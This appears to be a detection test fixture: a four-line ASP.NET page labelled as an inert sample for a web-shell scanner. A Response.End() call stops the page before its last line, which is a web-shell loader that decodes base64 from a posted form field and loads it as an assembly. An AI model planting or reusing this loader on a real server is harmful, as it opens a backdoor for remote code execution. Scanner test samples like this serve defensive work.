<%@ Page Language="C#" %>
<%-- shellsweep test sample: inert, never functional --%>
<% Response.End(); %>
<% System.Reflection.Assembly.Load(Convert.FromBase64String(Request.Form["d"])).CreateInstance("X").Equals(Context); %>
